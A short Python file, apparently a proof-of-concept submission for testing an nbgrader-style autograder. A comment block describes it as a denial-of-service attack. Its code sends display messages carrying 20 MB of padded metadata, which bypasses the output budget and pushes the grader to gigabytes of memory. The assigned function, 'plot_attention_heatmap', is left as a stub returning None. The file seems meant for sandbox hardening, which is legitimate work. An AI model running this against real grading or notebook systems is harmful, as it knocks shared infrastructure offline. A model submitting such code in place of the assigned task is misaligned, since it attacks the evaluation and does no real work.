# Attack (denial of service): floods the grader through the one part of an output message that the
# output budget (c.Sandbox.max_output_mb, 20 MB) does not count: its metadata. Each message is a
# one-character display with 20 MB of metadata (a JSON list of ten million zeros), which the grader
# parses into Python objects and keeps in the notebook. Measured with nbgrader autograde: four
# messages (bounded here) take the grader process from 140 MB to 3.9 GB of memory and write a
# 420 MB autograded notebook; twelve took it to 7.8 GB and 839 MB. The kernel could go on sending
# for the whole cell timeout, and in every cell.
from IPython.display import display

_PAD = [0] * 10_000_000
for _ in range(4):
    display({"text/plain": "."}, raw=True, metadata={"text/plain": {"pad": _PAD}})


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
